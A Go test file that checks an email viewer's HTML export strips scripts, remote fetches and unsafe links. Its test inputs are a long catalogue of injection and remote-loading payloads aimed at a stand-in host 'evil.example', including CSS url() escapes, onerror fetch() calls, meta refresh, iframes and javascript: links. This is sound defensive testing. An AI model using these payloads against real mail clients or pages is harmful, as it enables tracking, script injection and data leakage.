package export_test

import (
	"context"
	"encoding/base64"
	"math"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"runchecks/ui/mailview"
	"runchecks/ui/mailview/dom"
	"runchecks/ui/mailview/export"
	"runchecks/ui/mailview/limit"
	"runchecks/ui/mailview/page"
	"runchecks/ui/mailview/text"
	"runchecks/ui/widget/mailfonts"
)

// carried is the picture that the mails of the tests carry.
var carried = []byte("\x89PNG not really")

func picture(source string) (string, []byte, bool) {
	if source == "cid:logo" {
		return "image/png", carried, true
	}
	return "", nil, false
}

func exported(t testing.TB, src string) string {
	t.Helper()
	doc, err := dom.Parse([]byte(src), limit.Default(), &limit.Cuts{})
	if err != nil {
		t.Fatal(err)
	}
	return string(export.HTML(doc, "Backup <failed>", picture))
}

// walk calls f for every element of a page as a browser reads it.
func walk(t testing.TB, src string, f func(n *html.Node)) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(src))
	if err != nil {
		t.Fatal(err)
	}
	for n := range root.Descendants() {
		if n.Type == html.ElementNode {
			f(n)
		}
	}
}

func attribute(n *html.Node, name string) (string, bool) {
	for _, a := range n.Attr {
		if a.Key == name {
			return a.Val, true
		}
	}
	return "", false
}

// allowed are the elements of a copy: those that can only show.
var allowed = strings.Fields(`html head meta title style body center font big small tt u s strike b i em strong code kbd samp pre p div span br hr
	h1 h2 h3 h4 h5 h6 ul ol li dl dt dd blockquote sub sup a img table caption colgroup col thead tbody tfoot tr td th address mark ins del abbr cite q
	nobr wbr section article header footer main nav aside figure figcaption`)

// harmless fails the test for anything in a copy that could run or fetch.
func harmless(t *testing.T, copied string) {
	t.Helper()
	styles := func(what, s string) {
		lower := strings.ToLower(s)
		for _, bad := range []string{"url(", "@import", "@font-face", "@", "expression", "image(", "image-set", "src(", "var(", "behavior", "-moz-binding", "\\", "<"} {
			if strings.Contains(lower, bad) {
				t.Errorf("%s says %q: %.200s", what, bad, s)
			}
		}
	}
	metas := 0
	walk(t, copied, func(n *html.Node) {
		if !slices.Contains(allowed, n.Data) || n.Namespace != "" {
			t.Errorf("<%s> in the copy", n.Data)
		}
		switch n.Data {
		case "meta":
			if equiv, has := attribute(n, "http-equiv"); has && !strings.EqualFold(equiv, "Content-Security-Policy") {
				t.Errorf("meta %q", equiv)
			}
			metas++
		case "style":
			if n.FirstChild != nil {
				styles("the style sheet", n.FirstChild.Data)
			}
		}
		for _, a := range n.Attr {
			if strings.HasPrefix(a.Key, "on") || a.Namespace != "" {
				t.Errorf("<%s %s>", n.Data, a.Key)
			}
			switch a.Key {
			case "style":
				styles("a style attribute", a.Val)
			case "src":
				if n.Data != "img" || !strings.HasPrefix(a.Val, "data:image/") {
					t.Errorf("<%s src=%.50q>", n.Data, a.Val)
				}
			case "href":
				if n.Data != "a" || !strings.HasPrefix(a.Val, "http://") && !strings.HasPrefix(a.Val, "https://") {
					t.Errorf("<%s href=%.50q>", n.Data, a.Val)
				}
				if rel, _ := attribute(n, "rel"); !strings.Contains(rel, "noreferrer") || !strings.Contains(rel, "noopener") {
					t.Errorf("a link with rel=%q", rel)
				}
			case "srcset", "background", "poster", "action", "formaction", "ping", "data", "manifest", "cite", "longdesc", "usemap", "dynsrc", "lowsrc", "classid", "codebase", "profile", "icon", "srcdoc", "code", "archive", "imagesrcset", "xlink:href", "xmlns":
				t.Errorf("<%s %s=%.50q>", n.Data, a.Key, a.Val)
			}
		}
	})
	if metas != 3 {
		t.Errorf("%d meta elements, want those of the copy", metas)
	}
}

func TestThePolicyComesBeforeAnythingElse(t *testing.T) {
	copied := exported(t, "<html><head><title>x</title><meta http-equiv=refresh content='0;url=http://evil.example/'><style>p{color:red}</style></head><body>x")
	var order []string
	walk(t, copied, func(n *html.Node) {
		if n.Parent.Data == "head" {
			order = append(order, n.Data)
		}
		if n.Data == "meta" && len(order) == 1 {
			policy, _ := attribute(n, "content")
			if equiv, _ := attribute(n, "http-equiv"); equiv != "Content-Security-Policy" {
				t.Errorf("the first meta is %q", equiv)
			}
			for _, want := range []string{"default-src 'none'", "img-src data:", "form-action 'none'", "base-uri 'none'"} {
				if !strings.Contains(policy, want) {
					t.Errorf("the policy lacks %q: %s", want, policy)
				}
			}
			for _, bad := range []string{"http", "*", "'self'", "unsafe-eval", "script-src"} {
				if strings.Contains(policy, bad) {
					t.Errorf("the policy allows %q: %s", bad, policy)
				}
			}
		}
	})
	if !slices.Equal(order, []string{"meta", "meta", "meta", "title", "style"}) {
		t.Errorf("the head is %q", order)
	}
	harmless(t, copied)
}

// remote names a host in every way that mails and pages fetch from one.
var remote = []struct{ name, src string }{
	{"img src", "<img src=http://evil.example/x.png alt=a>"}, {"img src without scheme", "<img src=//evil.example/x.png>"}, {"img srcset", "<img srcset='http://evil.example/x.png 2x'>"},
	{"picture source", "<picture><source srcset=http://evil.example/x><img src=http://evil.example/x></picture>"}, {"img lowsrc", "<img lowsrc=http://evil.example/x dynsrc=http://evil.example/y>"},
	{"img longdesc", "<img longdesc=http://evil.example/x usemap=http://evil.example/y>"}, {"input image", "<input type=image src=http://evil.example/x>"},
	{"background of body", "<body background=http://evil.example/x>a"}, {"background of table", "<table background=http://evil.example/x><tr><td background=http://evil.example/x>a</table>"},
	{"style background", "<p style='background:url(http://evil.example/x) red'>a"}, {"style background-image", `<p style="background-image:url('http://evil.example/x')">a`},
	{"style in capitals", "<p style='BACKGROUND:URL(http://evil.example/x)'>a"}, {"style escaped", `<p style="background:\75\72\6c(http://evil.example/x)">a`}, {"style entity", "<p style='background:&#117;rl(http://evil.example/x)'>a"},
	{"style image-set", "<p style='background:image-set(\"http://evil.example/x\" 1x)'>a"}, {"style list", "<ul style='list-style:url(http://evil.example/x)'><li>a</ul>"},
	{"style list image", "<ul style='list-style-image:url(http://evil.example/x)'><li>a</ul>"}, {"style content", "<p style='content:url(http://evil.example/x)'>a"},
	{"style cursor", "<p style='cursor:url(http://evil.example/x),auto'>a"}, {"style border image", "<p style='border-image:url(http://evil.example/x) 1'>a"},
	{"style filter", "<p style='filter:url(http://evil.example/x#f)'>a"}, {"style behaviour", "<p style='behavior:url(http://evil.example/x.htc)'>a"},
	{"style binding", "<p style='-moz-binding:url(http://evil.example/x)'>a"}, {"style expression", "<p style='width:expression(document.location=\"http://evil.example/\")'>a"},
	{"style variable", "<p style='--x:url(http://evil.example/x);background:var(--x)'>a"}, {"style src", "<p style='background:src(\"http://evil.example/x\")'>a"},
	{"sheet import", "<style>@import url(http://evil.example/x.css);p{color:red}</style>a"}, {"sheet import as string", "<style>@import 'http://evil.example/x.css';</style>a"},
	{"sheet font", "<style>@font-face{font-family:x;src:url(http://evil.example/x)}p{font-family:x}</style>a"}, {"sheet background", "<style>p{background:url(http://evil.example/x)}</style><p>a"},
	{"sheet in media", "<style>@media screen{p{background:url(http://evil.example/x) blue}}</style><p>a"}, {"sheet that ends early", "<style>p{color:red}</sty</style><img src=http://evil.example/x>"},
	{"sheet in selector", "<style>p[title='</style><img src=http://evil.example/x>']{color:red}</style>"}, {"sheet namespace", "<style>@namespace url(http://evil.example/x);</style>a"},
	{"link style sheet", "<link rel=stylesheet href=http://evil.example/x.css>"}, {"link prefetch", "<link rel=dns-prefetch href=//evil.example>"}, {"link icon", "<link rel=icon href=http://evil.example/x>"},
	{"link manifest", "<link rel=manifest href=http://evil.example/x>"}, {"html manifest", "<html manifest=http://evil.example/x><body>a"}, {"head profile", "<head profile=http://evil.example/x></head>a"},
	{"iframe", "<iframe src=http://evil.example/></iframe>"}, {"iframe srcdoc", "<iframe srcdoc='<img src=http://evil.example/x>'></iframe>"}, {"frame", "<frameset><frame src=http://evil.example/></frameset>"},
	{"object", "<object data=http://evil.example/x></object>"}, {"object codebase", "<object classid=x codebase=http://evil.example/x></object>"}, {"embed", "<embed src=http://evil.example/x>"}, {"applet", "<applet codebase=http://evil.example/ code=x></applet>"},
	{"video", "<video src=http://evil.example/x poster=http://evil.example/y></video>"}, {"audio", "<audio src=http://evil.example/x autoplay></audio>"}, {"track", "<video><track src=http://evil.example/x></video>"},
	{"svg image", "<svg><image href=http://evil.example/x xlink:href=http://evil.example/x /></svg>"}, {"svg use", "<svg><use href=http://evil.example/x#y /></svg>"}, {"svg style", "<svg><style>@import 'http://evil.example/x'</style></svg>"},
	{"svg script", "<svg><script href=http://evil.example/x></script></svg>"}, {"math", "<math href=http://evil.example/x><mi xlink:href=http://evil.example/x>a</mi></math>"},
	{"meta refresh", "<meta http-equiv=refresh content='0;url=http://evil.example/'>"}, {"meta in the body", "<p>a<meta http-equiv=refresh content='0;url=http://evil.example/'>"}, {"base", "<base href=http://evil.example/>a<img src=x.png>"},
	{"form", "<form action=http://evil.example/ method=post><input name=a><button formaction=http://evil.example/>b</button></form>"}, {"isindex", "<isindex action=http://evil.example/>"},
	{"link ping", "<a ping=http://evil.example/x>a</a>"}, {"script src", "<script src=http://evil.example/x></script>"}, {"script text", "<script>fetch('http://evil.example/')</script>"}, {"onload", "<body onload=\"fetch('http://evil.example/')\">a"},
	{"onerror", "<img src=cid:logo onerror=\"fetch('http://evil.example/')\">"}, {"onerror behind a slash", "<img/onerror=fetch('http://evil.example/')/src=x>"}, {"blockquote cite", "<blockquote cite=http://evil.example/x>a</blockquote>"},
	{"bgsound", "<bgsound src=http://evil.example/x>"}, {"layer", "<layer src=http://evil.example/x>a</layer>"}, {"image", "<image src=http://evil.example/x>"}, {"xml", "<xml src=http://evil.example/x></xml>"},
	{"template", "<template><img src=http://evil.example/x></template>"}, {"noscript", "<noscript><img src=http://evil.example/x></noscript>"}, {"a conditional comment", "<!--[if mso]><img src=http://evil.example/x><![endif]-->a"},
	{"an instruction", "<?xml-stylesheet href='http://evil.example/x.css'?>a"}, {"a doctype", "<!DOCTYPE html SYSTEM 'http://evil.example/x.dtd'>a"}, {"portal", "<portal src=http://evil.example/></portal>"},
}

func TestNothingRemoteIsInTheCopy(t *testing.T) {
	if len(remote) < 40 {
		t.Fatalf("only %d kinds", len(remote))
	}
	for _, r := range remote {
		t.Run(r.name, func(t *testing.T) {
			copied := exported(t, r.src)
			// An alternative text may name a host, a link may lead there: neither is among these.
			if strings.Contains(copied, "evil.example") {
				t.Errorf("the copy names the host: %s", copied)
			}
			harmless(t, copied)
		})
	}
}

func TestWhatACommentDividesIsNotJoinedToAnAddress(t *testing.T) {
	harmless(t, exported(t, "<p style='background:u/**/rl(http://evil.example/x)'>a"))
	harmless(t, exported(t, "<style>p{background:ur/* */l(http://evil.example/x)}@im/**/port 'http://evil.example/x';</style>a"))
}

func TestTextThatLooksLikeHTMLStaysText(t *testing.T) {
	for _, src := range []string{
		"&lt;script&gt;alert(1)&lt;/script&gt;", "<p title='&quot;&gt;&lt;script&gt;x&lt;/script&gt;'>a", "<p class='\"onmouseover=\"x'>a", "<img alt='\"><script>x</script>'>", "<td width='1\" onclick=\"x'>a",
		"<noscript>&lt;/noscript&gt;&lt;img src=x onerror=y&gt;</noscript>", "<pre>&lt;/pre&gt;&lt;iframe&gt;</pre>", "<xmp><script>x</script></xmp>", "<plaintext><script>x</script>", "<noembed><img onerror=x></noembed>",
	} {
		harmless(t, exported(t, src))
	}
}

func TestLinksThatAreNotWebPagesLoseTheirTarget(t *testing.T) {
	for href, want := range map[string]string{
		"http://example.com/a?b=1&amp;c=2": "http://example.com/a?b=1&c=2", "https://user:secret@example.com/": "https://example.com/", "javascript:alert(1)": "", "JAVA&#10;SCRIPT:alert(1)": "",
		"data:text/html,x": "", "vbscript:x": "", "file:///c:/x": "", "mailto:a@example.com": "", "#top": "", "page.html": "", "cid:logo": "",
	} {
		copied := exported(t, `<a href="`+href+`">text</a>`)
		harmless(t, copied)
		walk(t, copied, func(n *html.Node) {
			if got, _ := attribute(n, "href"); n.Data == "a" && got != want {
				t.Errorf("%q leads to %q", href, got)
			}
		})
		if !strings.Contains(copied, ">text</a>") {
			t.Errorf("%q: the text is lost", href)
		}
	}
}

func TestPicturesThatTheMailCarriesAreInTheCopy(t *testing.T) {
	copied := exported(t, "<img src=cid:logo width=50 alt='our logo'><img src=cid:other alt=other><img src=data:text/html,x>")
	harmless(t, copied)
	var got []string
	walk(t, copied, func(n *html.Node) {
		if n.Data == "img" {
			src, _ := attribute(n, "src")
			alt, _ := attribute(n, "alt")
			got = append(got, alt+"="+src)
		}
	})
	want := []string{"our logo=data:image/png;base64," + base64.StdEncoding.EncodeToString(carried), "other=", "="}
	if !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestTheTitleIsText(t *testing.T) {
	walk(t, exported(t, "x"), func(n *html.Node) {
		if n.Data == "title" && n.FirstChild.Data != "Backup <failed>" {
			t.Errorf("title %q", n.FirstChild.Data)
		}
	})
}

func fonts(t testing.TB) *text.Set {
	t.Helper()
	set, err := mailfonts.Bundled()
	if err != nil {
		t.Fatal(err)
	}
	return set
}

func layout(t *testing.T, e *mailview.Engine, src []byte) (*mailview.Mail, *page.Page) {
	t.Helper()
	m, err := e.Open(src, nil)
	if err != nil {
		t.Fatal(err)
	}
	p, err := m.Layout(context.Background(), 900)
	if err != nil {
		t.Fatal(err)
	}
	return m, p
}

func TestTheCopyLooksLikeTheMail(t *testing.T) {
	files, err := filepath.Glob("../testdata/html/*.html")
	if err != nil || len(files) == 0 {
		t.Fatal("no mails", err)
	}
	engine := &mailview.Engine{Fonts: fonts(t), Limits: limit.Default()}
	for _, file := range files {
		t.Run(strings.TrimSuffix(filepath.Base(file), ".html"), func(t *testing.T) {
			src, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			mail, before := layout(t, engine, src)
			copied := export.HTML(mail.Document(), "x", picture)
			harmless(t, string(copied))
			again, after := layout(t, engine, copied)
			if mail.Document().Quirks() != again.Document().Quirks() {
				t.Error("the mode is another")
			}
			if len(before.Fragments) != len(after.Fragments) {
				t.Fatalf("%d pieces of text, then %d", len(before.Fragments), len(after.Fragments))
			}
			for i := range before.Fragments {
				a, b := &before.Fragments[i], &after.Fragments[i]
				if a.Text != b.Text || math.Abs(a.Rect.X-b.Rect.X) > .01 || math.Abs(a.Rect.Y-b.Rect.Y) > .01 || a.Colour != b.Colour {
					t.Fatalf("piece %d: %q at %v in %v, then %q at %v in %v", i, a.Text, a.Rect, a.Colour, b.Text, b.Rect, b.Colour)
				}
			}
		})
	}
}
